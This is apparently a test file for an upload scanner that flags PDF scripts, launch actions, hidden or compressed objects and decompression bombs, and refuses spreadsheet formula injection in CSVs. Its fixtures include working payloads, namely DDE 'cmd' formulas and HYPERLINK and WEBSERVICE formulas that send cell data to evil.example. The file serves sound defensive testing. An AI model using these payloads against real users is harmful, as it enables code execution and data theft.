import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { inspect } from '../../server/files/domain/inspect.js';
import { refusal } from './refusal.js';
import { pdf, zip } from './samples.js';

const warningsOf = async (bytes: Buffer, name = 'a.pdf') => (await inspect(name, bytes)).warnings;

const stream = (dictionary: string, data: Buffer | string) =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n5 0 obj\n<< ${dictionary} >>\nstream\n`, 'latin1'),
    Buffer.from(data as string),
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ]);
const objects = '1 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>';
const packed = deflateSync(objects);
const base85 = (bytes: Buffer): string => {
  let text = '';
  for (let at = 0; at < bytes.length; at += 4) {
    const part = bytes.subarray(at, at + 4);
    let value = Buffer.concat([part, Buffer.alloc(4)]).readUInt32BE(0);
    const letters = Array.from({ length: 5 }, () => {
      const letter = String.fromCharCode(33 + (value % 85));
      value = Math.floor(value / 85);
      return letter;
    });
    text += letters
      .reverse()
      .join('')
      .slice(0, part.length + 1);
  }
  return `${text}~>`;
};

describe('what a PDF can do is noted', () => {
  it.each([
    ['a script', 'pdf-script', pdf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
    ['a script written with numbers', 'pdf-script', pdf('<< /S /J#61va#53cript >>')],
    ['a script by its key alone', 'pdf-script', pdf('<< /S /Rendition /#4a#53 12 0 R >>')],
    ['a program', 'pdf-launch', pdf('<< /S /Launch /F (cmd.exe) >>')],
    ['a file inside', 'pdf-attachment', pdf('<< /Names << /EmbeddedFiles 3 0 R >> >>')],
    ['a form of its own kind', 'pdf-form', pdf('<< /AcroForm << /XFA 3 0 R >> >>')],
    ['protection', 'pdf-unreadable', pdf('trailer << /Encrypt 9 0 R >>')],
    [
      'a packed script',
      'pdf-script',
      stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed),
    ],
    [
      'a packed script, names in numbers',
      'pdf-script',
      stream('/Type /Obj#53tm /N 1 /First 4 /Filter [/F#6cateDecode]', packed),
    ],
    [
      'a packed script without its type',
      'pdf-script',
      stream('/N 1/First 4/Filter/FlateDecode', packed),
    ],
    [
      'a script packed twice',
      'pdf-script',
      stream(
        '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]',
        `${packed.toString('hex')}>`,
      ),
    ],
    [
      'a script packed otherwise',
      'pdf-script',
      stream('/Type/ObjStm/N 1/First 4/Filter[/ASCII85Decode/FlateDecode]', base85(packed)),
    ],
    [
      'a packed script cut short',
      'pdf-unreadable',
      stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', packed.subarray(0, -6)),
    ],
    [
      'a packed script behind a false stream',
      'pdf-script',
      Buffer.concat([
        Buffer.from('%PDF-1.7\n% stream\n'),
        stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', packed),
      ]),
    ],
    [
      'what is packed in a way nobody reads here',
      'pdf-unreadable',
      stream('/Type/ObjStm/N 1/First 4/Filter/LZWDecode', 'a'),
    ],
    [
      'what unfolds without end',
      'pdf-unreadable',
      stream(
        '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
        deflateSync(Buffer.alloc(40 * 1024 * 1024)),
      ),
    ],
  ])('%s', async (_what, warning, bytes) => {
    expect(await warningsOf(bytes)).toEqual([warning]);
    expect(await warningsOf(zip([{ name: '資料/一.pdf', data: bytes }]), 'a.zip')).toEqual([
      warning,
    ]);
  });

  it('and nothing of an ordinary one, or of chance in packed data', async () => {
    const made = new PDFDocument();
    const parts: Buffer[] = [];
    made.on('data', (part: Buffer) => parts.push(part));
    const done = new Promise((resolve) => made.once('end', resolve));
    made.text('JavaScript and Launch, /JavaScript').link(0, 0, 10, 10, 'https://example.jp/');
    made.end();
    await done;
    expect(await warningsOf(Buffer.concat(parts))).toEqual([]);
    expect(await warningsOf(stream('/Length 9', '\u0001/JS\u0002/AA\u0003'))).toEqual([]);
  });

  it('takes time in proportion to its length', async () => {
    const hostile = (count: number) =>
      pdf('stream\n'.repeat(count) + '/#4a'.repeat(count) + '1 0 obj\n'.repeat(count));
    const timed = async (count: number) => {
      const began = performance.now();
      await inspect('a.pdf', hostile(count));
      return performance.now() - began;
    };
    await timed(20_000);
    const [one, four] = [await timed(50_000), await timed(200_000)];
    expect(four / one).toBeLessThan(12);
  });
});

describe('tables', () => {
  it.each([
    ["品目,金額\n=cmd|' /C calc'!A0,1\n", ['formula']],
    ['"=HYPERLINK(""http://evil.example/?""&A1,""ここ"")"\n', ['formula']],
    ['＠SUM(1)*cmd|a\n', ['formula']],
    ['"=IF(1,WEBSERVICE(""http://evil.example""),0)"\n', ['formula']],
    ['=IF(1;WEBSERVICE("x"))\n', ['formula']],
    ['a\t"=SUM(1,\n2,DDE(""cmd""))"', ['formula']],
    ['\u200B=WEBSERVICE("x")', ['formula']],
    ['﹦WEBSERVICE("x")', ['formula']],
    ['−WEBSERVICE  ("x")', ['formula']],
    ['=\u0338X(WEBSERVICE("x"))', ['formula']],
    ["='\\\\evil.example\\a\\[b.xlsx]S'!A1", ['formula']],
    ["='[b.xlsx]S'!A1", ['formula']],
    ['" =閉じない引用\n=cmd|a', ['formula']],
    ['"閉じない引用\n=cmd|a', ['formula']],
    ['品目,金額\n=SUM(A1:A2),-100\n+81-59-000-0000,a|b\n', []],
    ['-,"webservice (説明)",https://example.jp\n"=SUM(A1,A2)",a://b\n', []],
  ])('%j', async (text, warnings) => {
    expect(await warningsOf(Buffer.from(text), 'a.csv')).toEqual(warnings);
    expect(await refusal('a.csv', Buffer.from(text))).toBeNull();
  });

  it.each([
    '<html><script>a()</script>',
    '\uFEFF \n<!DOCTYPE html>',
    '<table><tr><td>=cmd|a</td></tr></table>',
    '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">',
    'MIME-Version: 1.0\r\nContent-Type: multipart/related',
  ])('are refused where a spreadsheet would open a page: %j', async (text) => {
    expect(await refusal('a.csv', Buffer.from(text))).toBe('content');
    const packed = zip([{ name: '表.CSV', data: text }]);
    expect(await refusal('a.zip', packed)).toBe('content');
    expect(await refusal('a.txt', Buffer.from(`メモ：${text}`))).toBeNull();
  });

  it('in the encodings that programs of this country write', async () => {
    const wide = Buffer.from('\uFEFF品目,=WEBSERVICE("x")', 'utf16le');
    const windows = Buffer.concat([
      Buffer.from([0x95, 0x69, 0x2c, 0x81, 0x81]),
      Buffer.from('WEBSERVICE("x")'),
    ]);
    for (const bytes of [wide, windows]) {
      expect(await warningsOf(bytes, 'a.csv')).toEqual(['formula']);
    }
  });

  it('in time that grows with their length', async () => {
    for (const piece of ['"', '""', '",', '"=', '=a|', 'call ', '=call', ']', '"\n', '=[x]']) {
      await warningsOf(Buffer.from(`=1${piece.repeat(1_000_000 / piece.length)}`), 'a.csv');
    }
  }, 10_000);
});
